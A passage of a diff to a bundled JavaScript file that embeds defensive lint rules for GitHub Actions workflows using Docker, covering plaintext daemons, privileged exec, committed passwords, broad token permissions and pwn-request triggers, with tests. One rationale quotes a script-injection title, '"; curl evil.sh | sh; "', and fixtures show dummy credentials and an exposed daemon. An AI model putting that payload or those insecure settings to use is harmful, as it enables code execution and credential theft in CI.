#1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^(--host=|-H)?tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A Docker host on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          sudo dockerd -H unix:///var/run/docker.sock -H tcp://0.0.0.0:2375 &\\n          DOCKER_HOST=tcp://127.0.0.1:2375 docker ps\\n          docker -H tcp://10.0.0.5 info\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":78},{"line":8,"column":11,"endLine":8,"endColumn":53},{"line":9,"column":11,"endLine":9,"endColumn":40}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker --tlsverify -H tcp://docker.example.com:2376 ps\\n          DOCKER_HOST=ssh://deploy@builder.example.com docker info\\n","expect":[]}],"source":"policies/workflows/command-docker-daemon-tcp-without-tls.yaml"},{"id":"command-docker-exec-privileged","pack":"workflows","title":"docker exec runs privileged or as root","severity":"medium","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"exec"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"privileged":{"items":{"not":{"enum":["true","1","t","T","TRUE","True"]}}},"user":{"items":{"not":{"pattern":{"$param":"rootUser"}}}}}}}}}},"message":"`docker exec` here runs with `{{key}}` set to `{{value}}`, handing the command more power than the container itself was given (every capability with `--privileged`, root with `-u root`). Run it as the container\'s own user and without `--privileged`.","rationale":"`docker exec --privileged` gives the new process every capability and device access even in a container that was started unprivileged, and `docker exec -u root` bypasses the container\'s non-root USER. Either undoes the hardening the container was started with, for a command that often processes untrusted input in CI. The CIS Docker Benchmark asks that exec commands not use the privileged option (5.23) or the root user (5.24).","remediation":"```yaml\\n- run: docker exec app ./manage.py migrate\\n```\\n\\nIf a task needs root, build it into the image or run a separate, short-lived container for it.","references":[{"framework":"cis-docker","id":"1.6.0:5.23"},{"framework":"cis-docker","id":"1.6.0:5.24"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/container/exec/"}],"params":{"rootUser":"^(root|0)(:.*)?$"},"paramSchemas":{"rootUser":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `--user` value that means root: the name or UID, with or without a group."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker run -d --name app ghcr.io/example/app:1.4.2\\n          docker exec --privileged app mount -t tmpfs none /mnt\\n          docker exec -u root app apt-get install -y curl\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":64},{"line":9,"column":11,"endLine":9,"endColumn":58}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker exec app ./manage.py migrate\\n          docker exec -u 10001 app id\\n","expect":[]}],"source":"policies/workflows/command-docker-exec-privileged.yaml"},{"id":"command-docker-login-password","pack":"workflows","title":"docker login with a password written in the script","severity":"high","subject":"command","when":{"required":["docker"],"properties":{"origin":{"enum":["workflow","action"]},"docker":{"properties":{"subcommand":{"const":"login"}}}}},"schema":{"properties":{"docker":{"properties":{"flags":{"properties":{"password":{"items":{"pattern":{"$param":"expression"}}}}}}}}},"message":"`docker login` is given a password written in the script, so it is in the repository for anyone to read, and `-p` also puts it in the process list. Pipe a secret in instead: `echo \\"${{ secrets.REGISTRY_TOKEN }}\\" | docker login -u bot --password-stdin ghcr.io`, or use docker/login-action.","rationale":"A password written in a workflow\'s `run:` script is committed to the repository\'s history, visible to everyone with read access and copied into every fork, and it cannot be masked in logs because GitHub does not know it is a secret. Docker itself warns that `--password` on the command line is insecure: the value shows up in `ps` and shell history. The OWASP cheat sheet (rule 12) asks that secrets be kept out of files and command lines.","remediation":"```yaml\\n- name: Log in to the registry\\n  run: echo \\"$REGISTRY_TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n  env:\\n    REGISTRY_TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n```\\n\\nor `uses: docker/login-action@<sha>` with `password: ${{ secrets.REGISTRY_TOKEN }}`. Rotate the\\npassword that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/reference/cli/docker/login/#password-stdin"}],"params":{"expression":"\\\\$"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A password value that comes from somewhere else (an expression or a shell variable) rather than being written in the file."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          docker login -u ci-bot -p \'hunter2-hunter2\' registry.example.com\\n          docker push registry.example.com/app:1.4.2\\n","expect":[{"line":7,"column":11,"endLine":7,"endColumn":75}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo \\"$TOKEN\\" | docker login -u ci-bot --password-stdin registry.example.com\\n        env:\\n          TOKEN: ${{ secrets.REGISTRY_TOKEN }}\\n      - run: docker login -u ci-bot --password \\"$TOKEN\\" registry.example.com\\n","expect":[]}],"source":"policies/workflows/command-docker-login-password.yaml"},{"id":"container-registry-password-literal","pack":"workflows","title":"Registry password written in a job or service container\'s credentials","severity":"high","subject":"container","when":{"required":["credentials"],"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"credentials":{"properties":{"password":{"pattern":{"$param":"expression"}}}}}},"message":"{{name}} writes its registry password into the workflow, where everyone who can read the repository (and every fork) can copy it. Store it as an encrypted secret and write `password: ${{ secrets.REGISTRY_PASSWORD }}`.","rationale":"A password in a workflow file is committed to the repository\'s history, copied into forks and visible to anyone with read access; rotating it does not remove the old value from history. GitHub encrypts repository and organisation secrets, masks them in logs and withholds them from workflows triggered by forks. For GitHub Container Registry, the job\'s own `GITHUB_TOKEN` needs no stored password at all. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nThen rotate the password that was committed: it stays in the repository\'s history.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idcontainercredentials"}],"params":{"expression":"\\\\$\\\\{\\\\{"},"paramSchemas":{"expression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that comes from somewhere else: a `${{ secrets.X }}` (or any other) expression."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: registry.example.com/ci/node:22\\n      credentials:\\n        username: ci-bot\\n        password: hunter2-hunter2\\n    services:\\n      db:\\n        image: registry.example.com/ci/postgres:16\\n        credentials:\\n          username: ci-bot\\n          password: ${{ secrets.REGISTRY_PASSWORD }}\\n    steps:\\n      - run: npm test\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":34}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/ci:1.4.2\\n      credentials:\\n        username: ${{ github.actor }}\\n        password: ${{ secrets.GITHUB_TOKEN }}\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/container-registry-password-literal.yaml"},{"id":"workflow-container-literal-secret","pack":"workflows","title":"Secret written into a job or service container\'s env","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["job-container","job-service"]}}},"schema":{"properties":{"environment":{"patternProperties":{"^(?:[A-Za-z0-9]+_)*(?:PASSWORD|PASSWD|PWORD|PASS|SECRET|TOKEN|APIKEY|KEY|AUTH|CREDENTIAL|CREDENTIALS|password|passwd|pword|pass|secret|token|apikey|key|auth|credential|credentials)(?:_[A-Za-z0-9_]*)?$(?<!(?:^|_)(?:PUBLIC|public|Public)(?:_[A-Za-z0-9_]*)?)(?<!_(?:FILE|PATH|DIR|URL|URI|HOST|PORT|USER|USERNAME|NAME|ID|ENABLED|TYPE|METHOD|PROVIDER|MODE|LENGTH|TTL|EXPIRY|file|path|dir|url|uri|host|port|user|username|name|id|enabled|type|method|provider|mode))":{"not":{"type":"string","pattern":{"$param":"literalValue"}}}}}}},"message":"{{name}} sets `{{key}}` to a value written in the workflow. For a throwaway test database that is harmless, but a real credential is now readable by everyone with access to the repository. Use `${{ secrets.\u2026 }}` for anything that is not a disposable test value.","rationale":"Service containers in CI usually get a made-up password for a database that lives for one job, which is why this rule is low severity. The same place is also where real credentials for licensed images, external services or shared test environments end up, and a value written in the workflow is committed, visible to every reader and fork, and not masked in logs. The OWASP cheat sheet (rule 12) asks that secrets never be written into configuration files.","remediation":"```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    env:\\n      POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}   # or a disposable value, suppressed\\n```\\n\\nA disposable value can be kept with an inline suppression that says so:\\n`# containment: ignore[workflow-container-literal-secret] throwaway CI database`.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"}],"params":{"literalValue":"^[^$]+$"},"paramSchemas":{"literalValue":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A value that is not written in the file: an expression or a shell variable."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      env:\\n        NPM_TOKEN: npm_abcdefghijklmnop\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_USER: app\\n          POSTGRES_PASSWORD: postgres\\n    steps:\\n      - run: npm test\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":40},{"line":14,"column":11,"endLine":14,"endColumn":38}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        env:\\n          POSTGRES_PASSWORD: ${{ secrets.CI_DB_PASSWORD }}\\n          POSTGRES_HOST_AUTH_METHOD: trust\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-container-literal-secret.yaml"},{"id":"workflow-docker-daemon-tcp-without-tls","pack":"workflows","title":"Workflow step points Docker at, or exposes, a daemon on plain TCP","severity":"medium","subject":"workflow.step","schema":{"properties":{"env":{"properties":{"DOCKER_HOST":{"not":{"pattern":{"$param":"plaintextHost"}}}}}},"if":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/setup-docker-action(@|$)"}}},"then":{"properties":{"with":{"properties":{"tcp-port":false}}}}},"message":"This step sets `{{key}}` so that Docker is reached over plain TCP, where its API has no authentication: anything that can reach the port can start privileged containers on that daemon. Use the local socket (the default), or TLS on port 2376 with client certificates.","rationale":"The Docker API is root-equivalent, and on TCP without TLS anyone who can reach the port can use it. A `DOCKER_HOST=tcp://\u2026:2375` in a workflow usually points at a Docker-in-Docker service or a remote builder whose port is then open to every container and process on that network. The OWASP cheat sheet (rule 1) asks never to expose the daemon without TLS.","remediation":"Leave `DOCKER_HOST` unset to use the runner\'s socket, or use TLS:\\n\\n```yaml\\nenv:\\n  DOCKER_HOST: tcp://docker:2376\\n  DOCKER_TLS_VERIFY: \\"1\\"\\n  DOCKER_CERT_PATH: /certs/client\\n```","references":[{"framework":"owasp-docker","id":"RULE #1"},{"framework":"url","url":"https://docs.docker.com/engine/security/protect-access/"}],"params":{"plaintextHost":"^tcp://[^\\\\s/:]*(:2375)?/?$"},"paramSchemas":{"plaintextHost":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `DOCKER_HOST` on TCP without TLS: port 2375, or no port (which the CLI also resolves to 2375)."}},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          tcp-port: 2375\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://localhost:2375\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":25},{"line":11,"column":11,"endLine":11,"endColumn":44}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/setup-docker-action@v4\\n        with:\\n          set-host: true\\n      - run: docker info\\n        env:\\n          DOCKER_HOST: tcp://docker:2376\\n          DOCKER_TLS_VERIFY: \\"1\\"\\n","expect":[]}],"source":"policies/workflows/workflow-docker-daemon-tcp-without-tls.yaml"},{"id":"workflow-image-push-without-attestations","pack":"workflows","title":"Image pushed without SBOM and provenance attestations","severity":"low","subject":"workflow.step","when":{"required":["uses","with"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"},"with":{"required":["push"],"properties":{"push":{"const":"true"}}}}},"schema":{"properties":{"with":{"required":["sbom"],"properties":{"sbom":{"const":"true"},"provenance":{"not":{"enum":["false","0"]}}}}}},"message":"This step pushes an image without {{key}} attestations, so consumers cannot verify how it was built or see what it contains when a vulnerability is announced. Add `sbom: true` and keep provenance on (`provenance: mode=max`).","rationale":"An SBOM attestation lists the packages in the image, which lets scanners and consumers answer \\"are we affected?\\" without pulling and unpacking it. A provenance attestation records the source repository, commit, build parameters and builder, which lets consumers check that the image was built from this repository by this workflow. BuildKit attaches both to the pushed image; docker/build-push-action adds provenance by default (`mode=max` for public repositories, `mode=min` for private ones) unless `provenance: false`, but an SBOM only with `sbom: true`. The OWASP cheat sheet\'s supply-chain rule (13) and Docker Scout rely on them.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    sbom: true\\n    provenance: mode=max\\n```","references":[{"framework":"owasp-docker","id":"RULE #13"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/attestations/"},{"framework":"url","url":"https://docs.docker.com/build/metadata/attestations/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          provenance: false\\n","expect":[{"line":7,"column":9,"endLine":7,"endColumn":13},{"line":10,"column":11,"endLine":10,"endColumn":28}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          sbom: true\\n          provenance: mode=max\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: false\\n          load: true\\n          tags: app:test\\n","expect":[]}],"source":"policies/workflows/workflow-image-push-without-attestations.yaml"},{"id":"workflow-job-permissions-write-all","pack":"workflows","title":"Job grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow.job","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"Job {{name}} sets `permissions: write-all`, so every step in it, including third-party actions, holds a token that can push code, publish packages and change releases. List only the scopes this job needs, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step of the job. `write-all` turns any compromised action or injected script into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#jobsjob_idpermissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions: write-all\\n    steps:\\n      - run: make release\\n","expect":[{"line":7,"column":5,"endLine":7,"endColumn":27}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    permissions:\\n      contents: write\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-job-permissions-write-all.yaml"},{"id":"workflow-login-action-password-literal","pack":"workflows","title":"docker/login-action given a password written in the workflow","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/login-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"password":{"pattern":"^$|\\\\$\\\\{\\\\{"}}}}},"message":"This docker/login-action step writes the registry password into the workflow, where everyone who can read the repository can copy it. Store it as a secret and write `password: ${{ secrets.REGISTRY_TOKEN }}` (or `${{ secrets.GITHUB_TOKEN }}` for ghcr.io).","rationale":"docker/login-action masks the password only when it comes from a secret; a literal value is part of the committed file, visible to every reader and fork and kept in history after it is changed. The OWASP cheat sheet (rule 12) asks that secrets never be written in configuration files.","remediation":"```yaml\\n- uses: docker/login-action@<full commit sha> # v3\\n  with:\\n    registry: ghcr.io\\n    username: ${{ github.actor }}\\n    password: ${{ secrets.GITHUB_TOKEN }}\\n```\\n\\nRotate the password that was committed.","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/push-multi-registries/"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@v3\\n        with:\\n          registry: registry.example.com\\n          username: ci-bot\\n          password: hunter2-hunter2\\n","expect":[{"line":10,"column":11,"endLine":10,"endColumn":36}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  push:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/login-action@74a5d142397b4f367a81961eba4e8cd7edddf772\\n        with:\\n          registry: ghcr.io\\n          username: ${{ github.actor }}\\n          password: ${{ secrets.GITHUB_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-login-action-password-literal.yaml"},{"id":"workflow-permissions-missing","pack":"workflows","title":"Workflow does not limit the GITHUB_TOKEN\'s permissions","severity":"low","subject":"workflow","when":{"not":{"properties":{"on":{"properties":{"events":{"const":["workflow_call"]}}}}}},"schema":{"required":["permissions"]},"message":"This workflow does not declare `permissions:`, so its jobs get the repository\'s default token permissions, which may include write access to code, packages and releases. Add `permissions: { contents: read }` at the top and grant more only to the jobs that need it.","rationale":"Every job receives a `GITHUB_TOKEN`. Without a `permissions:` block its scopes are the repository\'s or organisation\'s default, which for older repositories is read and write on almost everything. A compromised step (a malicious action, an injected script) can then push code, publish packages or alter releases. Declaring the minimum at the workflow level makes the token\'s power visible in review. If every job declares its own `permissions:`, suppress this finding with that reason.","remediation":"```yaml\\npermissions:\\n  contents: read\\njobs:\\n  publish:\\n    permissions:\\n      contents: read\\n      packages: write   # only this job pushes images\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/automatic-token-authentication#modifying-the-permissions-for-the-github_token"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[{"line":1,"column":1,"endLine":1,"endColumn":9}]},{"file":".github/workflows/ci.yml","content":"on: push\\npermissions:\\n  contents: read\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]},{"file":".github/workflows/reusable.yml","content":"on: workflow_call\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: npm test\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-missing.yaml"},{"id":"workflow-permissions-write-all","pack":"workflows","title":"Workflow grants the GITHUB_TOKEN every write permission","severity":"medium","subject":"workflow","schema":{"properties":{"permissions":{"not":{"const":"write-all"}}}},"message":"`permissions: write-all` gives every job of this workflow a token that can push code, publish packages, change releases and more, so any compromised step can do all of that. List only the scopes the jobs need, e.g. `permissions: { contents: read, packages: write }`.","rationale":"The `GITHUB_TOKEN` is available to every step, including third-party actions and scripts that process untrusted input. `write-all` turns any weakness in any of them into write access to the repository and its packages. Least privilege means naming the scopes each job needs.","remediation":"```yaml\\npermissions:\\n  contents: read\\n  packages: write\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-syntax#permissions"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\npermissions: write-all\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[{"line":2,"column":1,"endLine":2,"endColumn":23}]},{"file":".github/workflows/release.yml","content":"on: push\\npermissions:\\n  contents: write\\njobs:\\n  release:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: make release\\n","expect":[]}],"source":"policies/workflows/workflow-permissions-write-all.yaml"},{"id":"workflow-secret-in-build-args","pack":"workflows","title":"Secret passed to an image build as a build argument","severity":"high","subject":"workflow.step","when":{"required":["uses"],"properties":{"uses":{"pattern":"^docker/build-push-action(@|$)"}}},"schema":{"properties":{"with":{"properties":{"build-args":{"not":{"pattern":{"$param":"secretExpression"}}}}}}},"message":"This build passes a secret through `build-args`, which are recorded in the image\'s history and provenance, so anyone who can pull the image can read it. Pass it with the action\'s `secrets:` input and read it in the Dockerfile with `RUN --mount=type=secret`.","rationale":"Build arguments are not secret: their values end up in the image configuration\'s history (when an ARG is used by a RUN), in build logs and caches, and, since docker/build-push-action adds provenance attestations by default, in the provenance attached to the pushed image, which Docker\'s documentation warns about. Docker\'s GitHub Actions documentation shows build secrets passed through the `secrets:` (or `secret-files:`) input instead, which BuildKit mounts for the one step that needs them and never writes to a layer.","remediation":"```yaml\\n- uses: docker/build-push-action@<sha>\\n  with:\\n    push: true\\n    tags: ghcr.io/example/app:1.4.2\\n    secrets: |\\n      npm_token=${{ secrets.NPM_TOKEN }}\\n```\\n\\n```dockerfile\\nRUN --mount=type=secret,id=npm_token,env=NPM_TOKEN npm ci --omit=dev\\n```","references":[{"framework":"owasp-docker","id":"RULE #12"},{"framework":"url","url":"https://docs.docker.com/build/ci/github-actions/secrets/"}],"params":{"secretExpression":"\\\\$\\\\{\\\\{\\\\s*(secrets\\\\.|github\\\\.token)"},"paramSchemas":{"secretExpression":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A secret or token expression anywhere in the build arguments."}},"tests":[{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=1.4.2\\n            NPM_TOKEN=${{ secrets.NPM_TOKEN }}\\n","expect":[{"line":10,"column":11,"endLine":12,"endColumn":47}]},{"file":".github/workflows/release.yml","content":"on: push\\njobs:\\n  image:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: docker/build-push-action@v6\\n        with:\\n          push: true\\n          tags: ghcr.io/example/app:1.4.2\\n          build-args: |\\n            APP_VERSION=${{ github.ref_name }}\\n          secrets: |\\n            npm_token=${{ secrets.NPM_TOKEN }}\\n","expect":[]}],"source":"policies/workflows/workflow-secret-in-build-args.yaml"},{"id":"workflow-untrusted-code-with-privileged-trigger","pack":"workflows","title":"Privileged trigger builds or runs a pull request\'s code","severity":"critical","subject":"workflow.step","when":{"required":["prHeadCheckedOut","triggers"],"properties":{"prHeadCheckedOut":{"const":true},"triggers":{"contains":{"enum":["pull_request_target","workflow_run"]}}}},"schema":{"properties":{"builds":false,"composeFiles":false}},"message":"This step builds or runs the pull request\'s code (`docker build`, build-push-action, `docker compose`) in a workflow started by `pull_request_target` or `workflow_run`, which has the base repository\'s secrets and a write token: any contributor can run code with them. Build untrusted code in a `pull_request` workflow, and pass only its results to the privileged one.","rationale":"`pull_request_target` and `workflow_run` run in the context of the base repository, with its secrets and a `GITHUB_TOKEN` that can write, precisely because they are not supposed to run the pull request\'s code. Checking out the head of the pull request and then building a Dockerfile (whose RUN steps execute) or bringing up a Compose file hands that access to whoever opened the pull request (\\"pwn request\\"). The job\'s earlier checkout of the head is what makes this step dangerous; the finding is on the step that executes the code.","remediation":"Split the work: build and test the contributor\'s code with `on: pull_request` (no secrets, read\\ntoken), upload what is needed as an artifact, and let a `workflow_run` workflow that never checks\\nout or executes the pull request\'s code publish it:\\n\\n```yaml\\non: pull_request\\npermissions:\\n  contents: read\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@<sha>\\n      - run: docker build -t app:pr .\\n```","references":[{"framework":"url","url":"https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"},{"framework":"url","url":"https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  preview:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t preview:${{ github.event.number }} .\\n      - run: docker compose up -d\\n","expect":[{"line":9,"column":9,"endLine":9,"endColumn":66},{"line":10,"column":9,"endLine":10,"endColumn":34}]},{"file":".github/workflows/preview.yml","content":"on: pull_request_target\\njobs:\\n  label:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n      - run: docker build -t tools .\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: pull_request\\njobs:\\n  build:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683\\n        with:\\n          ref: ${{ github.event.pull_request.head.sha }}\\n      - run: docker build -t app:pr .\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-code-with-privileged-trigger.yaml"},{"id":"workflow-untrusted-input-in-run","pack":"workflows","title":"Attacker-controlled value expanded into a run script","severity":"high","subject":"workflow.step","schema":{"if":{"required":["untrustedExpressions"]},"then":{"properties":{"run":false}}},"message":"This `run:` script expands attacker-controlled values ({{subject.untrustedExpressions}}) straight into shell code, so whoever writes that title, branch name or comment can run commands here, with the job\'s token and secrets. Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` and `\\"$TITLE\\"` in the script.","rationale":"GitHub replaces `${{ }}` expressions before the shell starts, so the value becomes part of the script\'s text. Pull request titles and bodies, issue and comment bodies, commit messages, author names and branch names are chosen by whoever opens the pull request or issue; a title such as `\\"; curl evil.sh | sh; \\"` is executed. Through an environment variable the value stays data. GitHub\'s security hardening guide describes this script injection.","remediation":"```yaml\\n- name: Greet\\n  env:\\n    TITLE: ${{ github.event.pull_request.title }}\\n  run: echo \\"Building: $TITLE\\"\\n```","references":[{"framework":"url","url":"https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections"}],"params":{},"paramSchemas":{},"tests":[{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo \\"New issue: ${{ github.event.issue.title }}\\"\\n          docker run --rm ghcr.io/example/triage:1.0.0 \\"${{ github.event.issue.body }}\\"\\n","expect":[{"line":8,"column":9,"endLine":10,"endColumn":88}]},{"file":".github/workflows/triage.yml","content":"on:\\n  issues:\\n    types: [opened]\\njobs:\\n  triage:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - env:\\n          TITLE: ${{ github.event.issue.title }}\\n        run: echo \\"New issue $TITLE (#${{ github.event.issue.number }})\\"\\n","expect":[]}],"source":"policies/workflows/workflow-untrusted-input-in-run.yaml"}],"source":"policies/workflows"}]');
   return { packs, validators };
 }
 
@@ -41100,20 +40019,10 @@ function substituteParams(schema, params, missing = /* @__PURE__ */ new Set()) {
     if (!(name in params)) missing.add(name);
     return params[name];
   }
-  if (keys.length === 1 && keys[0] === "$paramPattern" && typeof record4["$paramPattern"] === "string") {
-    const name = record4["$paramPattern"];
-    if (!(name in params)) missing.add(name);
-    return anyPattern(params[name]);
-  }
   const out = {};
   for (const key of keys) out[key] = substituteParams(record4[key], params, missing);
   if (Array.isArray(out["enum"]) && out["enum"].length === 0) return false;
   return out;
-}
-function anyPattern(value) {
-  if (!Array.isArray(value)) return value;
-  const patterns = value.filter((entry) => typeof entry === "string");
-  return patterns.length ? patterns.map((pattern) => `(?:${pattern})`).join("|") : "[^\\s\\S]";
 }
 function paramProblems(rule, given) {
   const declared = rule.paramSchemas ?? {};
@@ -41368,7 +40277,7 @@ var action_ref_schema_default = {
       type: "boolean"
     },
     isLocal: {
-      description: "A reference to an action or workflow in the same repository: `./path` (or `.\\path`) in the workspace, or `$/path`, the self-repository syntax, which resolves to the running commit and is pinned by definition.",
+      description: "A `./path` (or `.\\path`) reference to an action or workflow in the same repository.",
       type: "boolean"
     },
     isDocker: {
@@ -41921,7 +40830,7 @@ var workflow_schema_default = {
